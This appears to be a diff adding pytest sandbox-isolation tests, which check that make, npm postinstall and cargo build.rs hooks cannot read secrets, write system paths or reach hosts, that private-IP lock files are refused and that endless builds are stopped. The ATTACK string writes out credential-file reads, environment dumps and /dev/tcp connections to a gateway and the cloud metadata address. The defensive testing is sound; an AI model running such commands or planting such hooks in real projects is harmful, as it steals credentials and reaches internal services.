@@ -1,0 +1,111 @@
+"""Install hooks and builds of other languages than Python meet the walls of every build."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import socket
+from collections.abc import Iterator
+from pathlib import Path
+
+import docker
+import pytest
+
+from pipeline.languages.detect import plan_attempts
+from sandbox.docker.docker_engine import DockerEngine, DockerOptions
+from sandbox.engine import EnvironmentRequest
+from sandbox.environment.build_options import BuildOptions
+from sandbox.errors import EnvironmentFailed
+from sandbox.program import EditBuild, Ending, shell_command
+from tests.support.docker import OWNER, gateway_of, make_tree
+
+ATTACK = """\
+env >seen; cat /proc/*/environ >>seen 2>/dev/null
+cat /root/.netrc /root/.npmrc ~/.docker/config.json >>seen 2>&1
+for place in /etc /usr/bin /opt /opt/capuchin /root; do
+    touch $place/owned 2>/dev/null && echo WROTE $place >>seen
+done
+bash -c "exec 3<>/dev/tcp/GATEWAY/PORT" 2>>seen && echo OPEN >>seen
+bash -c "exec 3<>/dev/tcp/169.254.169.254/80" 2>>seen && echo OPEN >>seen
+true
+"""
+HOOKS = {
+    "make": {"Makefile": "all:\n\tsh attack.sh\ntest:\n\ttrue\n", "till.c": ""},
+    "npm": {
+        "package.json": '{"scripts": {"postinstall": "sh attack.sh", "test": "true"}}',
+        "till.js": "",
+    },
+    "cargo": {
+        "Cargo.toml": '[package]\nname = "till"\nversion = "0.1.0"\n',
+        "build.rs": (
+            "use std::process::Command;\n"
+            'fn main() { Command::new("sh").arg("attack.sh").status().unwrap(); }\n'
+        ),
+        "src/lib.rs": "",
+    },
+}
+
+
+@pytest.fixture(scope="module", name="engine")
+def usual_engine(ca_bundle: Path | None) -> Iterator[DockerEngine]:
+    made = DockerEngine(DockerOptions(owner=OWNER, build=BuildOptions(ca_bundle=ca_bundle)))
+    yield made
+    asyncio.run(made.close())
+
+
+@pytest.mark.parametrize("tool", HOOKS)
+async def test_an_install_hook_finds_no_secret_no_host_and_no_place_to_write(
+    engine: DockerEngine,
+    tmp_path: Path,
+    run_id: str,
+    daemon: docker.APIClient,
+    monkeypatch: pytest.MonkeyPatch,
+    tool: str,
+) -> None:
+    monkeypatch.setenv("ANTHROPIC_API_KEY", "canary-key")
+    gateway = gateway_of(daemon, "bridge")
+    with socket.create_server((gateway, 0)) as host:
+        attack = ATTACK.replace("GATEWAY", gateway).replace("PORT", str(host.getsockname()[1]))
+        tree = make_tree(tmp_path, {**HOOKS[tool], "attack.sh": attack})
+        request = EnvironmentRequest(tree, run_id=run_id, scope=run_id)
+        image = await engine.prepare(request, (await plan_attempts(request))[0])
+        host.setblocking(False)
+        with pytest.raises(BlockingIOError):
+            host.accept()
+    async with engine.open(image, run_id=run_id) as sandbox:
+        seen = (await sandbox.run(shell_command("cat seen; ls /opt/owned /etc/owned"))).output
+    assert "PATH=" in seen
+    assert not [word for word in ("canary", "WROTE", "OPEN") if word in seen], seen
+
+
+async def test_a_lock_file_that_names_the_intranet_is_refused_in_a_sentence(
+    engine: DockerEngine, tmp_path: Path, run_id: str
+) -> None:
+    till = {"version": "1.0.0", "resolved": "http://10.1.2.3/till.tgz"}
+    package = {"name": "shop", "dependencies": {"till": "1.0.0"}}
+    lock = {"": package, "node_modules/till": till}
+    files = {
+        "package.json": json.dumps(package),
+        "package-lock.json": json.dumps({"name": "shop", "lockfileVersion": 3, "packages": lock}),
+        ".npmrc": "fetch-retries=0\n",
+    }
+    request = EnvironmentRequest(make_tree(tmp_path, files), run_id=run_id, scope=run_id)
+    with pytest.raises(EnvironmentFailed) as failed:
+        await engine.prepare(request, (await plan_attempts(request))[0])
+    assert "10.1.2.3 is private" in failed.value.log
+
+
+async def test_a_build_of_an_edit_that_never_ends_is_stopped_and_told(
+    engine: DockerEngine, tmp_path: Path, run_id: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("sandbox.execution.jobs.BUILD_SECONDS", 2.0)
+    tree = make_tree(tmp_path, {"till.ex": "1\n"})
+    request = EnvironmentRequest(tree, setup=["true"], run_id=run_id, scope=run_id)
+    image = await engine.prepare(request, (await plan_attempts(request))[0])
+    edit = "--- a/till.ex\n+++ b/till.ex\n@@ -1 +1 @@\n-1\n+2\n"
+    build = EditBuild(lines=("while :; do :; done",))
+    async with engine.open(image, run_id=run_id, build=build) as sandbox:
+        run = await sandbox.run(shell_command("true", diffs=[edit]))
+        unedited = await sandbox.run(shell_command("true"))
+    assert (run.ending, unedited.exit_code) == (Ending.UNBUILT, 0)
+    assert "did not end within 2 seconds" in run.output
